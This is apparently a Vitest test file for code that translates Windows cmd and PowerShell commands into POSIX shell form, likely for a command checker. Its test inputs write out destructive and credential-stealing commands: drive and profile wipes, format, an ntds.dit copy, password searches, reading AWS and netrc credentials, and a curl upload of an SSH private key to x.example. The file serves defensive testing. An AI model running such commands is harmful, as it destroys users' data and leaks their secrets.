import { describe, expect, it } from "vitest";
import { staticField } from "../model.js";
import { cmdToShell, windowsCommand } from "./windows-cmd.js";
import { posixPathWord } from "./windows-paths.js";

const argv = (...words: string[]) => words.map((word) => staticField(word));

describe("windowsCommand", () => {
  it("translates cmd /c code and cmd's deleters run directly", () => {
    expect(windowsCommand(argv("cmd", "/c", "rmdir", "/s", "/q", "D:\\"))).toBe("rm -rf '/'");
    expect(windowsCommand(argv("cmd.exe", "/c", '"del /f /s /q C:\\Users\\ada\\*"'))).toBe("rm -rf '/Users/ada/'*");
    expect(windowsCommand(argv("rd", "/s", "/q", "build"))).toBe("rm -rf build");
    expect(windowsCommand(argv("robocopy", "C:\\empty", "C:\\Users\\ada\\Documents", "/MIR"))).toBe("rsync -a --delete '/empty'/ '/Users/ada/Documents'/");
  });

  it("translates PowerShell cmdlets run without a host", () => {
    expect(windowsCommand(argv("Remove-Item", "-Recurse", "-Force", "C:\\Users\\ada"))).toBe("rm -rf '/Users/ada'");
  });

  it("reads PowerShell's Get-Content, gc and type given a POSIX path, and leaves bash's own type alone", () => {
    expect(windowsCommand(argv("Get-Content", "~/.aws/credentials"))).toBe("cat ~/.aws/credentials");
    expect(windowsCommand(argv("gc", "hosts.yml"))).toBe("cat hosts.yml");
    expect(windowsCommand(argv("type", "~/.netrc"))).toBe("cat ~/.netrc");
    expect(windowsCommand(argv("type", "git"))).toBeUndefined();
    expect(windowsCommand(argv("type", "-a", "python"))).toBeUndefined();
  });

  it("translates cmd's readers, searchers, format and esentutl, and programs run by their .exe name", () => {
    expect(windowsCommand(argv("type", "%USERPROFILE%\\.aws\\credentials"))).toBe(`cat "$HOME"'/.aws/credentials'`);
    expect(windowsCommand(argv("cmd", "/c", "findstr", "/s", "/i", "password", "%USERPROFILE%\\*"))).toBe(`grep -r -e password "$HOME"'/'*`);
    expect(windowsCommand(argv("format", "D:", "/q"))).toBe("mkfs /dev/disk/by-letter/D");
    expect(windowsCommand(argv("esentutl", "/y", "C:\\Windows\\NTDS\\ntds.dit", "/d", "x.dit"))).toBe("cp '/Windows/NTDS/ntds.dit' x.dit");
    expect(windowsCommand(argv("curl.exe", "-T", "C:\\Users\\ada\\.ssh\\id_rsa", "https://x.example"))).toBe("curl -T '/Users/ada/.ssh/id_rsa' https://x.example");
    expect(windowsCommand(argv("/usr/bin/rd", "/s", "/q", "%USERPROFILE%"))).toBe(`rm -rf "$HOME"`);
  });

  it("leaves other commands alone", () => {
    expect(windowsCommand(argv("type", "-a", "ls"))).toBeUndefined();
    expect(windowsCommand(argv("powershell.exe", "-c", "Get-Date"))).toBeUndefined();
    expect(windowsCommand(argv("rmdir", "empty-dir"))).toBeUndefined();
    expect(windowsCommand(argv("cmd", "/c", "dir"))).toBe("dir");
    expect(windowsCommand(argv("Get-ChildItem", "-Recurse", "src"))).toBeUndefined();
  });
});

describe("cmdToShell", () => {
  it("keeps the operators between commands", () => {
    expect(cmdToShell("rmdir /s /q node_modules && npm install")).toBe("rm -rf node_modules && npm install");
    expect(cmdToShell("del /q a.txt & echo done")).toBe("rm -f a.txt ; echo done");
  });
});

describe("posixPathWord", () => {
  it("maps drives, profiles and temporary directories", () => {
    expect(posixPathWord("C:\\Users\\ada")).toBe("'/Users/ada'");
    expect(posixPathWord("%USERPROFILE%\\Documents")).toBe(`"$HOME"'/Documents'`);
    expect(posixPathWord("%TEMP%\\build")).toBe("'/tmp/build'");
    expect(posixPathWord("src/index.ts")).toBe("src/index.ts");
    expect(posixPathWord("%APPDATA%\\gcloud")).toBe(`"$HOME"'/AppData/Roaming/gcloud'`);
    expect(posixPathWord("$env:LOCALAPPDATA\\Google")).toBe(`"$HOME"'/AppData/Local/Google'`);
    expect(posixPathWord("..\\other-project")).toBe("'../other-project'");
  });
});
